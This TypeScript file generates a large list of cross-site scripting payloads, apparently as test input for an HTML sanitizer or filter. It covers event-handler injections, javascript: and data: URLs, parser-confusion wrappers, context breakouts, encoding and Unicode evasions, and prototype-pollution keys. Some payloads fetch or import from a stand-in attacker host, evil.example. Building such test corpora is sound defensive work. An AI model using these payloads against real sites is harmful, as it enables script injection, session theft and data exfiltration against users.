/**
 * What people have tried in order to make text run, made from families of tricks: every element that loads or
 * runs something in every spelling, every address that runs, every way out of where text stands. Whatever
 * runs calls `alert` or asks for `evil.example/ran`. Of two hundred characters at most, one line each.
 */
export function payloads(): string[] {
  const all = [
    ...handlers(),
    ...addresses(),
    ...wrappers(),
    ...breakouts(),
    ...spellings(),
    ...unreadable(),
    ...keys(),
  ];
  return [...new Set(all)];
}

const calls = ['alert(1)', 'fetch("//evil.example/ran")', "location='//evil.example/ran'"];

/** Elements that say something happened to them, with where the handler stands. */
function handlers(): string[] {
  const loud = [
    ['img src=x', 'onerror'],
    ['img src=/favicon.svg', 'onload'],
    ['svg', 'onload'],
    ['svg><animate attributeName=x dur=1s', 'onbegin'],
    ['svg><set attributeName=x', 'onbegin'],
    ['body', 'onpageshow'],
    ['body', 'onhashchange'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['a tabindex=1 autofocus href=#', 'onfocus'],
    ['video><source src=x', 'onerror'],
    ['video src=x', 'onloadstart'],
    ['audio src=x', 'onerror'],
    ['iframe src=about:blank', 'onload'],
    ['object data=x', 'onerror'],
    ['embed src=/', 'onload'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['style', 'onload'],
    ['script src=x', 'onerror'],
    ['details open', 'ontoggle'],
    ['dialog open', 'onclose'],
    ['marquee', 'onstart'],
    ['math tabindex=1 autofocus', 'onfocus'],
    ['div style=animation:x', 'onanimationstart'],
    ['p contenteditable', 'onpointerrawupdate'],
    ['button popovertarget=x', 'onbeforetoggle'],
    ['x', 'onmouseover'],
  ] as const;
  return loud.flatMap(([element, event], index) => {
    const call = calls[index % calls.length] ?? '';
    const mixed = [...event].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('');
    return [
      `<${element} ${event}=${call.replaceAll('"', '&quot;')}>`,
      `<${element.toUpperCase()} ${mixed}='${call.replaceAll("'", '&apos;')}'>`,
      `<${element}/${event}=\`${call}\`>`,
      `<${element}\t${event} =alert\`1\`>`,
      `<${element} x="" ${event}="${call.replaceAll('"', '&#34;')}" y="`,
      `"><${element} ${event}=alert(1)>`,
      `' ${event}='${call.replaceAll("'", '&#39;')}' autofocus tabindex=1 x='`,
    ];
  });
}

/** Addresses that run something, bare and as a link in every notation that a page might know. */
function addresses(): string[] {
  const runs = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'javascript://evil.example/%0aalert(1)',
    'javascript:/*https://porch.example*/alert(1)',
    'java\tscript:alert(1)',
    ' javascript:alert(1)',
    '\u00a0javascript:alert(1)',
    '\u200bjavascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    '&#106;avascript:alert(1)',
    '%6aavascript:alert(1)',
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg/onload=alert(1)>',
    'blob:https://evil.example/ran',
    'filesystem:https://evil.example/ran',
    'file:///etc/passwd',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    'jar:https://evil.example/ran!/x',
    'intent://ran#Intent;scheme=http;end',
    'ms-word:ofe|u|https://evil.example/ran',
    '//evil.example/ran',
    '/\\evil.example/ran',
    '\\\\evil.example\\ran',
    'https:evil.example/ran',
    'https://evil.example/ran"onmouseover="alert(1)',
    "https://evil.example/ran'onmouseover='alert(1)",
    'https://evil.example/ran<svg/onload=alert(1)>',
    'https://porch.example@evil.example/ran',
    'https://evil.example/ran\u202egpj.exe',
    'mailto:a@evil.example?subject="><svg/onload=alert(1)>',
    'tel:1"onclick="alert(1)',
    'sms:1<svg/onload=alert(1)>',
  ];
  return runs.flatMap((address) => [
    address,
    `<a href="${address}">come</a>`,
    `[come](${address})`,
    `![come](${address})`,
    `<${address}>`,
    `[come]: ${address}`,
  ]);
}

/** Elements that hold or bring in others, and what parsers make of them the second time. */
function wrappers(): string[] {
  const inner = '<img src=x onerror=alert(1)>';
  const holding = [
    (text: string) => `<script>${text}</script>`,
    (text: string) => `<iframe srcdoc="${text.replaceAll('"', '&quot;')}"></iframe>`,
    (text: string) => `<iframe src="javascript:parent.alert(1)">${text}</iframe>`,
    (text: string) => `<object data="data:text/html,${text}"></object>`,
    (text: string) => `<embed src="data:text/html,${text}">`,
    (text: string) => `<template shadowrootmode=open>${text}</template>`,
    (text: string) => `<svg><script href="data:,alert(1)"/>${text}</svg>`,
    (text: string) => `<svg><foreignObject>${text}</foreignObject></svg>`,
    (text: string) => `<svg><style><!--</style>${text}--></svg>`,
    (text: string) =>
      `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>${text}</svg>#x">`,
    (text: string) => `<math><mtext><table><mglyph><style><!--</style>${text}`,
    (text: string) => `<math><annotation-xml encoding="text/html">${text}</annotation-xml></math>`,
    (text: string) => `<math href="javascript:alert(1)">${text}</math>`,
    (text: string) => `<noscript><p title="</noscript>${text}">`,
    (text: string) => `<form><math><mtext></form><form><mglyph><style></math>${text}`,
    (text: string) => `<form action=javascript:alert(1)><button>${text}</button></form>`,
    (text: string) => `<select><template><style><!--</style>${text}</template></select>`,
    (text: string) => `<!--><${text.slice(1)}-->`,
    (text: string) => `<![CDATA[${text}]]>`,
    (text: string) => `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml">${text}</x>`,
    (text: string) => `<base href="//evil.example/ran/">${text}`,
    (text: string) => `<meta http-equiv=refresh content="0;url=//evil.example/ran">${text}`,
    (text: string) => `<link rel=import href="//evil.example/ran">${text}`,
    (text: string) =>
      `<style>@import "//evil.example/ran"; *{background:url(//evil.example/ran)}</style>${text}`,
    (text: string) => `<x style="background:url(javascript:alert(1));width:expression(alert(1))">${text}</x>`,
    (text: string) => `<portal src="//evil.example/ran">${text}</portal>`,
    (text: string) => `<img srcset="//evil.example/ran 1x" src=//evil.example/ran>${text}`,
    (text: string) => `<video poster=//evil.example/ran>${text}</video>`,
    (text: string) => `<table background=//evil.example/ran><td>${text}</table>`,
    (text: string) => `<a ping=//evil.example/ran href=#>${text}</a>`,
  ];
  return holding.flatMap((hold) => [
    hold(inner),
    hold('<svg onload=alert(1)>').toUpperCase(),
    hold(escaped(inner)),
  ]);
}

const escaped = (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** Ways out of an element, an attribute, a comment, a title, JSON in a script, a style, a template. */
function breakouts(): string[] {
  const out = [
    '</script>',
    '</script\t>',
    '</SCRIPT >',
    '<!--<script>',
    '-->',
    '--!>',
    '</title>',
    '</textarea>',
    '</style>',
    '</noscript>',
    '</template>',
    '</iframe>',
    '</svg>',
    '</div></main>',
    '">',
    "'>",
    '`>',
    '"}</script>',
    '\\u003c/script\\u003e',
    '\\x3c/script\\x3e',
    '\\"',
    '\u2028',
    '\u2029',
    '${',
    '{{',
    '#{',
    '<%=',
    '${{',
    '\\',
    '*/',
    ']]>',
    '?>',
  ];
  return out.flatMap((way) => [
    `${way}<script>alert(1)</script>`,
    `${way}alert(1)//`,
    `${way}<svg/onload=alert(1)>{}`,
  ]);
}

/** The same few, as filters forget to read them. */
function spellings(): string[] {
  return [
    '＜script＞alert(1)＜/script＞',
    '‹script›alert(1)‹/script›',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '%253Cscript%253Ealert(1)%253C/script%253E',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&#x3c;svg/onload=alert(1)&#x3e;',
    '&amp;lt;svg/onload=alert(1)&amp;gt;',
    '\\u003cimg src=x onerror=alert(1)\\u003e',
    '\\74svg onload\\75 alert(1)\\76',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<scr\u00adipt>alert(1)</scr\u00adipt>',
    '<ſcript>alert(1)</ſcript>',
    '<ımg src=x onerror=alert(1)>',
    '<ſvg onload=alert(1)>',
    '<svg onload=\u2028alert(1)>',
    '<img src=x onerror=\\u0061lert(1)>',
    '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
    '<img src=x onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    '<img src=x onerror=top["al"+"ert"](1)>',
    '<img src=x onerror=import("//evil.example/ran")>',
    '<img src=x onerror=Function("alert(1)")()>',
    '<script src=//evil.example/ran></script>',
    '<script type=module>import "//evil.example/ran"</script>',
    '<script>document.body.append(Object.assign(new Image,{src:"//evil.example/ran"}))</script>',
    '<custom-element onconnected=alert(1)>',
    '<p is=x-y id=start>{"house":0}</p>',
    '<a id=app><a id=app name=start href=javascript:alert(1)>',
    '<img name=getElementById><form id=document><input name=cookie>',
  ];
}

/** What turns, hides or stacks letters. */
function unreadable(): string[] {
  const signs = [
    '\u202e',
    '\u202d',
    '\u202b',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u200b',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u034f',
    '\u115f',
    '\u3164',
    '\ufe0f',
    '\u{e0041}',
    '\u{1f451}',
    '\u0336\u0336\u0336\u0336',
  ];
  return signs.flatMap((sign) => [`${sign}<b onclick=alert(1)>`, `Ada${sign}tsoh`, `host${sign}`]);
}

/** Names that JavaScript gives a meaning of its own. */
function keys(): string[] {
  const names = [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
    '__html',
    'dangerouslySetInnerHTML',
    'innerHTML',
    'onclick',
    'then',
    'undefined',
    'null',
    'NaN',
    'script',
    'srcdoc',
  ];
  return names.flatMap((name) => [
    name,
    `{"${name}":{"polluted":"<svg/onload=alert(1)>"}}`,
    `${name}[polluted]=1`,
  ]);
}
